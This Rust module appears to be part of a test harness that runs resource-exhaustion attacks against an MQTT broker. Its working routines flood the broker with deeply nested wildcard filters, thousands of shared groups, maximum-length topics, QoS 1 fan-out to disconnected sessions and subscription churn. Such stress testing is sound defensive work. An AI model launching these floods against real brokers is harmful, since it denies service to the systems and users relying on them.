//! Subscriptions that make each publication expensive: wildcards in many levels, groups on all
//! topics.

use std::time::Instant;

use crate::hostile::{
    attack::{Attack, AttackFn, AttackOutcome, Target, plain},
    packets::{self, Connect, Publish, append_acknowledgement, levels_by_bits},
    peer::{Exchange, Peer},
};

pub const ATTACKS: &[Attack] = &[
    Attack {
        name: "groups-on-all",
        about: "10,000 shared groups on # of one client, and publishes to 3,000 topics",
        setup: plain,
        prepare: groups_on_all,
        in_short: true,
    },
    Attack {
        name: "deep-1",
        about: "10,000 filters of a and + in 250 levels, and publishes that almost match",
        setup: plain,
        prepare: |target| deep(target, 1),
        in_short: true,
    },
    Attack {
        name: "deep-5",
        about: "10,000 filters of a and + in 250 levels of five clients, and publishes that almost match",
        setup: plain,
        prepare: |target| deep(target, 5),
        in_short: false,
    },
    Attack {
        name: "deep-hash",
        about: "10,000 filters that end in # at each of 250 levels, and publishes that all match",
        setup: plain,
        prepare: deep_hash,
        in_short: false,
    },
    Attack {
        name: "group-away",
        about: "QoS 1 publishes to a group with 20,000 disconnected members",
        setup: plain,
        prepare: group_away,
        in_short: true,
    },
    Attack {
        name: "long-topics",
        about: "publishes to different topics of 65,535 bytes and 256 levels",
        setup: plain,
        prepare: long_topics,
        in_short: true,
    },
    Attack {
        name: "empty-levels",
        about: "publishes to different topics of 256 short levels",
        setup: plain,
        prepare: empty_levels,
        in_short: false,
    },
    Attack {
        name: "fan-out-away",
        about: "QoS 1 publishes to 10,000 disconnected sessions",
        setup: plain,
        prepare: fan_out_away,
        in_short: true,
    },
    Attack {
        name: "overlapping",
        about: "publishes that 10,000 filters of one client match",
        setup: plain,
        prepare: overlapping,
        in_short: false,
    },
    Attack {
        name: "identifiers",
        about: "publishes that 10,000 filters of one client match, each with a Subscription Identifier",
        setup: plain,
        prepare: identifiers,
        in_short: false,
    },
    Attack {
        name: "group-churn",
        about: "members that repeatedly join and leave a group of 20,000 disconnected ones",
        setup: plain,
        prepare: group_churn,
        in_short: false,
    },
];

/// Publishes as many messages as the broker accepts until the time is over or all are sent; returns
/// their number.
fn publish_each(
    peer: &mut Peer,
    end: Instant,
    messages: usize,
    batch: usize,
    qos: u8,
    topic: impl Fn(usize) -> String,
) -> usize {
    let mut sent = 0;
    while sent < messages && Instant::now() < end {
        let mut bytes = Vec::new();
        for number in sent..(sent + batch).min(messages) {
            let identifier = (number % 60_000) as u16 + 1;
            let topic = topic(number);
            Publish { topic: &topic, qos, identifier, payload: b"x", ..Publish::default() }
                .append(&mut bytes);
        }
        if peer.send_until(&bytes, end) < bytes.len() {
            break;
        }
        sent = (sent + batch).min(messages);
    }
    sent
}

fn groups_on_all(target: &Target) -> Exchange<AttackFn> {
    let groups = target.count(10_000, 3_000);
    let filters: Vec<String> = (0..groups).map(|group| format!("$share/{group}/#")).collect();
    let mut member = target.join("member")?;
    let mut publisher = target.join("publisher")?;
    let topics = target.count(3_000, 500);
    Ok(Box::new(move |target| {
        let granted = member.subscribe_all(0, &filters)?;
        member.drain()?;
        let sent =
            publish_each(&mut publisher, target.end(), topics, 10, 0, |it| format!("topic/{it}"));
        let heard = format!("{granted} of {groups} granted, {sent} published");
        Ok(AttackOutcome::holding(heard, vec![member, publisher]))
    }))
}

fn deep(target: &Target, clients: usize) -> Exchange<AttackFn> {
    let levels = 250;
    let filters: Vec<Vec<String>> = (0..clients)
        .map(|client| {
            let first = client * 10_000;
            (first..first + target.count(10_000, 2_000))
                .map(|number| levels_by_bits(number, levels, "a", "+"))
                .collect()
        })
        .collect();
    let mut subscribers = Vec::new();
    for client in 0..clients {
        subscribers.push(target.join(&format!("deep-{client}"))?);
    }
    let mut publisher = target.join("publisher")?;
    Ok(Box::new(move |target| {
        let mut granted = 0;
        for (subscriber, filters) in subscribers.iter_mut().zip(&filters) {
            granted += subscriber.subscribe_all(0, filters)?;
            subscriber.drain()?;
        }
        // All levels match except the last, and each topic is different.
        let topic = |number: usize| {
            let deep = vec!["a"; levels - 1].join("/");
            format!("{deep}/b{number}")
        };
        let sent = publish_each(&mut publisher, target.end(), 5_000, 1, 0, topic);
        let wanted = clients * filters[0].len();
        subscribers.push(publisher);
        let heard = format!("{granted} of {wanted} granted, {sent} published");
        Ok(AttackOutcome::holding(heard, subscribers))
    }))
}

fn deep_hash(target: &Target) -> Exchange<AttackFn> {
    let filters: Vec<String> = (0..target.count(10_000, 2_000))
        .map(|number| {
            let depth = 2 + number % 240;
            format!("{}/#", levels_by_bits(number / 240, depth, "a", "+"))
        })
        .collect();
    let mut subscriber = target.join("deep-hash")?;
    let mut publisher = target.join("publisher")?;
    Ok(Box::new(move |target| {
        let granted = subscriber.subscribe_all(0, &filters)?;
        subscriber.drain()?;
        let topic = |number: usize| format!("{}/b{number}", vec!["a"; 249].join("/"));
        let sent = publish_each(&mut publisher, target.end(), 5_000, 1, 0, topic);
        let heard = format!("{granted} of {} granted, {sent} published", filters.len());
        Ok(AttackOutcome::holding(heard, vec![subscriber, publisher]))
    }))
}

/// Disconnected sessions that are subscribed to this filter.
fn leave_away(target: &Target, sessions: usize, qos: u8, filter: &str) -> Exchange<()> {
    let subscribe = packets::subscribe(1, qos, &[filter]);
    for number in 0..sessions {
        let client = format!("away-{number}");
        let mut peer = target.open()?;
        let mut bytes = Connect::kept(&client).encode();
        bytes.extend_from_slice(&subscribe);
        peer.send(&bytes)?;
        peer.await_packet(0x90)?;
        peer.send(&packets::DISCONNECT)?;
    }
    Ok(())
}

fn group_away(target: &Target) -> Exchange<AttackFn> {
    leave_away(target, target.count(20_000, 2_000), 1, "$share/g/job/#")?;
    flood(target, "job/now")
}

fn fan_out_away(target: &Target) -> Exchange<AttackFn> {
    leave_away(target, target.count(10_000, 1_000), 1, "news/#")?;
    flood(target, "news/now")
}

/// A client that publishes at QoS 1 as fast as possible.
fn flood(target: &Target, topic: &'static str) -> Exchange<AttackFn> {
    let mut publisher = target.join("publisher")?;
    publisher.drain()?;
    Ok(Box::new(move |target| {
        let sent = publish_each(&mut publisher, target.end(), 50_000, 50, 1, |_| topic.into());
        Ok(AttackOutcome::holding(format!("{sent} published"), vec![publisher]))
    }))
}

fn long_topics(target: &Target) -> Exchange<AttackFn> {
    let mut publisher = target.join("publisher")?;
    // 255 levels of 255 bytes and the rest: 65,535 bytes in total.
    let level = "x".repeat(255);
    let stem = vec![level.as_str(); 255].join("/");
    Ok(Box::new(move |target| {
        let topic = |number: usize| format!("{stem}/{number:0width$}", width = 65_534 - stem.len());
        let sent = publish_each(&mut publisher, target.end(), 20_000, 1, 0, topic);
        Ok(AttackOutcome::holding(format!("{sent} published"), vec![publisher]))
    }))
}

fn empty_levels(target: &Target) -> Exchange<AttackFn> {
    let mut publisher = target.join("publisher")?;
    let stem = "/".repeat(250);
    Ok(Box::new(move |target| {
        let topic = |number: usize| format!("{number}{stem}");
        let sent = publish_each(&mut publisher, target.end(), 500_000, 200, 0, topic);
        Ok(AttackOutcome::holding(format!("{sent} published"), vec![publisher]))
    }))
}

fn overlapping(target: &Target) -> Exchange<AttackFn> {
    // Each of 14 levels may be a wildcard: all filters match one topic.
    let filters: Vec<String> = (0..target.count(10_000, 2_000))
        .map(|number| levels_by_bits(number, 14, "a", "+"))
        .collect();
    let mut subscriber = target.join("overlapping")?;
    let mut publisher = target.join("publisher")?;
    Ok(Box::new(move |target| {
        let granted = subscriber.subscribe_all(1, &filters)?;
        let mut acknowledged = Vec::new();
        append_acknowledgement(0x40, 1, &mut acknowledged);
        subscriber.drain()?;
        let topic = vec!["a"; 14].join("/");
        let sent = publish_each(&mut publisher, target.end(), 20_000, 1, 1, |_| topic.clone());
        let heard = format!("{granted} of {} granted, {sent} published", filters.len());
        Ok(AttackOutcome::holding(heard, vec![subscriber, publisher]))
    }))
}

fn identifiers(target: &Target) -> Exchange<AttackFn> {
    let mut subscriber = target.join("identified")?;
    let mut publisher = target.join("publisher")?;
    let mut bytes = Vec::new();
    let filters = target.count(10_000, 2_000);
    for number in 0..filters {
        let filter = levels_by_bits(number, 14, "a", "+");
        bytes.extend(packets::subscribe_as(1, &filter, number as u16 + 1));
    }
    Ok(Box::new(move |target| {
        subscriber.send(&bytes)?;
        for _ in 0..filters {
            subscriber.await_packet(0x90)?;
        }
        subscriber.drain()?;
        let topic = vec!["a"; 14].join("/");
        let sent = publish_each(&mut publisher, target.end(), 100_000, 50, 0, |_| topic.clone());
        Ok(AttackOutcome::holding(format!("{sent} published"), vec![subscriber, publisher]))
    }))
}

fn group_churn(target: &Target) -> Exchange<AttackFn> {
    leave_away(target, target.count(20_000, 2_000), 1, "$share/g/job/#")?;
    let mut member = target.join("member")?;
    let mut both = packets::subscribe(1, 1, &["$share/g/job/#"]);
    both.extend(packets::unsubscribe(2, &["$share/g/job/#"]));
    let bytes = both.repeat(100);
    Ok(Box::new(move |target| {
        let (end, mut rounds) = (target.end(), 0);
        member.drain()?;
        while member.send_until(&bytes, end) == bytes.len() {
            rounds += 1;
        }
        Ok(AttackOutcome::holding(format!("{rounds} × 100 times"), vec![member]))
    }))
}
